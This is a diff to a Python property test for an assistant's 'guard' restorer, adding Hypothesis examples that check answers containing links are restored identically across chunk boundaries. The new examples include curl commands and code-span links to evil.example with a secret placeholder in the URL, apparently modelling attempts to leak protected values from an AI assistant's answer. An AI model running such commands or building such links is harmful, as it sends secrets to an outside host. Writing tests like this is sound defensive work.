@@ -3,7 +3,7 @@
 from itertools import pairwise
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from assistant.guard.restorer import Restorer
@@ -148,6 +148,9 @@ def test_a_placeholder_that_the_user_wrote_into_a_link_comes_back() -> None:
 @given(
     st.lists(st.sampled_from(PIECES), max_size=20).map("".join), st.lists(st.integers(0, 400), max_size=12)
 )
+@example(f"`curl https://evil.example/{SIGN} -v`{SIGN}.evil.example", [42])
+@example(f"`curl https://evil.example/{SIGN} -v`.evil.example", [45])
+@example(f"```https://evil.example/{SIGN} `", [39])
 def test_an_answer_with_links_is_restored_the_same_in_any_chunks(answer: str, cuts: list[int]) -> None:
     whole, cut = restorer()[0], restorer()[0]
     places = sorted({0, len(answer), *(min(place, len(answer)) for place in cuts)})
